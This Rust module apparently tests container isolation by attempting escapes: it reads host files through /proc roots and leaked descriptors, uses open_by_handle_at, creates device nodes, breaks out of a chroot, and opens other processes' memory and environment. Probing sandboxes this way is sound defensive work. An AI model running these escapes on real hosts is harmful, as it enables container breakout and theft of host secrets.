//! At files of the machine.

use std::ffi::CString;
use std::fs;
use std::os::fd::AsRawFd;
use std::path::{Path, PathBuf};

use super::{Attack, Outcome, answer, any, fact};

pub const ALL: &[Attack] =
    &[("secret", secret), ("handle", handle), ("device", device), ("chroot", chroot), ("runner", runner)];

/// A file of the machine's with a text that is nowhere else: by every way that leads out of a root directory.
fn secret() -> Outcome {
    let path = PathBuf::from(fact("SECRET"));
    let below = path.strip_prefix("/").unwrap_or(&path);
    let mut roots: Vec<PathBuf> = ["/", "/host", "/proc/self/root", "/proc/1/root", "/../../../../..", "/pods", "/.."]
        .iter()
        .map(PathBuf::from)
        .collect();
    for process in fs::read_dir("/proc").into_iter().flatten().flatten() {
        roots.extend(["root", "cwd", "root/host", "cwd/host"].map(|name| process.path().join(name)));
        // A directory that somebody has left open.
        roots.extend(fs::read_dir(process.path().join("fd")).into_iter().flatten().flatten().map(|fd| fd.path()));
    }
    let up = "../".repeat(20);
    any(roots
        .iter()
        .flat_map(|root| [root.join(below), root.join("host").join(below), root.join(&up).join(below)])
        .map(read))
}

fn read(path: PathBuf) -> Outcome {
    let text = fs::read_to_string(&path).map_err(|error| error.to_string())?;
    if text == fact("SECRET_TEXT") { Ok(path.display().to_string()) } else { Err("another file".to_owned()) }
}

/// Programs of the machine lie in the container: a file's handle leads to any other file of the same file system.
fn handle() -> Outcome {
    #[repr(C)]
    struct Handle {
        bytes: libc::c_uint,
        kind: libc::c_int,
        data: [u8; 128],
    }
    let place = fact("HANDLE_OF");
    let place = if place.is_empty() { "/usr".to_owned() } else { place };
    let mut handle = Handle { bytes: 128, kind: 0, data: [0; 128] };
    let (mut mount, path) = (0, CString::new(place.as_str()).unwrap_or_default());
    // SAFETY: a C string, a handle with room for as many bytes as it says, and a place for a number.
    let done = unsafe {
        let (handle, mount) = (&raw mut handle, &raw mut mount);
        libc::syscall(libc::SYS_name_to_handle_at, libc::AT_FDCWD, path.as_ptr(), handle, mount, 0)
    };
    answer(done)?;
    let dir = fs::File::open(&place).map_err(|error| error.to_string())?;
    // SAFETY: a descriptor that is open and the handle that the kernel has filled in.
    let file =
        unsafe { libc::syscall(libc::SYS_open_by_handle_at, dir.as_raw_fd(), &raw const handle, libc::O_RDONLY) };
    answer(file).map(|_| format!("{place} by its handle"))
}

/// The machine's memory, its log, its disks, by a device file of one's own.
fn device() -> Outcome {
    let dir = std::env::temp_dir();
    any([(1, 1), (1, 11), (8, 0), (254, 0), (259, 0), (1, 3)].map(|(major, minor)| {
        let path = dir.join(format!("device-{}", std::process::id()));
        let name = CString::new(path.to_string_lossy().as_bytes()).map_err(|error| error.to_string())?;
        let block = if major > 100 || major == 8 { libc::S_IFBLK } else { libc::S_IFCHR };
        // SAFETY: a C string and two numbers.
        let made = unsafe { libc::mknod(name.as_ptr(), block | 0o666, libc::makedev(major, minor)) };
        answer(made.into())?;
        let opened = fs::File::open(&path);
        let _ = fs::remove_file(&path);
        opened.map(|_| format!("device {major}:{minor}")).map_err(|error| error.to_string())
    }))
}

/// Out of a chroot goes who can make another one. A container's root is no chroot: there is nothing outside.
fn chroot() -> Outcome {
    let dir = std::env::temp_dir().join(format!("chroot-{}", std::process::id()));
    fs::create_dir_all(&dir).map_err(|error| error.to_string())?;
    let left = nix::unistd::chroot(&dir);
    let _ = fs::remove_dir(&dir);
    left.map_err(|errno| errno.to_string())?;
    for _ in 0..30 {
        nix::unistd::chdir("..").map_err(|errno| errno.to_string())?;
    }
    nix::unistd::chroot(".").map_err(|errno| errno.to_string())?;
    let path = PathBuf::from(fact("SECRET"));
    any([read(path.clone()), read(Path::new("/host").join(path.strip_prefix("/").unwrap_or(&path)))])
}

/// The runner's own program, its memory and its root, through whatever process of it can be seen.
fn runner() -> Outcome {
    let name = |place: &Path| fs::read_to_string(place.join("comm")).unwrap_or_default();
    let mut tries = Vec::new();
    for process in fs::read_dir("/proc").into_iter().flatten().flatten() {
        let place = process.path();
        let is_number = process.file_name().to_string_lossy().bytes().all(|byte| byte.is_ascii_digit());
        // Another attacker is as much the pod's own as this one (its program is called `attack`, its thread `attacker`).
        if !is_number || name(&place).starts_with("attack") {
            continue;
        }
        for name in ["exe", "root", "environ", "mem", "maps", "cwd"] {
            let path = place.join(name);
            tries.push(fs::File::open(&path).map(|_| path.display().to_string()).map_err(|error| error.to_string()));
        }
    }
    any(tries)
}
